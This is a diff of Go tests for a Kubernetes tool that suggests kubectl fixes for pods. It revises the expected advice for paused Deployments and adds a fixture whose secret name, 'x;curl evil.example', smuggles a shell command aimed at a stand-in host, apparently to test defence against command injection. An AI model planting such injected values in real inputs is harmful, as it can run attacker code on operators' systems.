@@ -489,7 +489,7 @@ func TestTheFixIsForOneWorkload(t *testing.T) {
 		want  string
 	}{
 		"a Deployment":                    {topOwner{"deployment/cart", kind("deployment"), ""}, "Restart its workload: kubectl rollout restart deployment/cart --namespace shop"},
-		"a paused Deployment":             {topOwner{"deployment/cart", kind("deployment"), "it is paused"}, "A restart of deployment/cart is not possible: it is paused. Resume it first: kubectl rollout resume deployment/cart --namespace shop"},
+		"a paused Deployment":             {topOwner{"deployment/cart", kind("deployment"), "it is paused"}, "A restart of deployment/cart does not replace the pod: it is paused. Delete the pod, and its controller creates a new one: kubectl delete pod cart-0 --namespace shop"},
 		"a DaemonSet that keeps its pods": {topOwner{"daemonset/log", kind("daemonset"), "its update strategy is OnDelete"}, "A restart of daemonset/log does not replace the pod: its update strategy is OnDelete. Delete the pod, and its controller creates a new one: kubectl delete pod cart-0 --namespace shop"},
 		"no owner":                        {topOwner{}, "No controller replaces this pod. Delete it, and create it again from its manifest: kubectl delete pod cart-0 --namespace shop"},
 		"a Job":                           {topOwner{"job/load", kind("job"), "x"}, "A Job cannot be restarted. Delete it, and create it again from its manifest: kubectl delete job/load --namespace shop"},
@@ -522,7 +522,7 @@ func TestTheFixIsForAllPods(t *testing.T) {
 		want     string
 	}{
 		"a Deployment":                    {"deployment/cart", topOwnerOf("deployment/cart", &deployment), "deployment/cart", "Restart its workload: kubectl rollout restart deployment/cart --namespace shop"},
-		"a paused Deployment":             {"deployment/cart", topOwnerOf("deployment/cart", &paused), "deployment/cart", "A restart of deployment/cart is not possible: it is paused. Resume it first: kubectl rollout resume deployment/cart --namespace shop"},
+		"a paused Deployment":             {"deployment/cart", topOwnerOf("deployment/cart", &paused), "deployment/cart", "A restart of deployment/cart does not replace the pod: it is paused. Delete the pod, and its controller creates a new one: kubectl delete pod POD --namespace shop"},
 		"a ServiceAccount of Deployments": {"serviceaccount/cart", topOwner{}, "deployment/cart", "Restart their workloads: kubectl rollout restart $(lanyard status serviceaccount/cart --stale -o name -n shop) -n shop"},
 		"a ServiceAccount of Jobs":        {"serviceaccount/cart", topOwner{}, "job/load", "No restart does that. See: lanyard explain job/load --namespace shop"},
 	} {
@@ -818,8 +818,10 @@ func TestVariablesThatMakeSDKsIgnoreTheIdentity(t *testing.T) {
 	own, from := newPod(), newPod()
 	own.Spec.Containers[0].Env = []corev1.EnvVar{{Name: "AWS_ACCESS_KEY_ID", Value: "x"}}
 	secret := corev1.EnvFromSource{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "keys"}}}
-	own.Spec.Containers[0].EnvFrom = []corev1.EnvFromSource{secret}
-	from.Spec.Containers[0].EnvFrom = []corev1.EnvFromSource{{ConfigMapRef: &corev1.ConfigMapEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "s3"}}}, secret}
+	// A template of a custom kind can have it, and its name would be a part of a command.
+	command := corev1.EnvFromSource{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "x;curl evil.example"}}}
+	own.Spec.Containers[0].EnvFrom = []corev1.EnvFromSource{secret, command}
+	from.Spec.Containers[0].EnvFrom = []corev1.EnvFromSource{{ConfigMapRef: &corev1.ConfigMapEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "s3"}}}, secret, command}
 	for sentence, test := range map[string]struct {
 		pod        *corev1.Pod
 		configMaps map[string]string
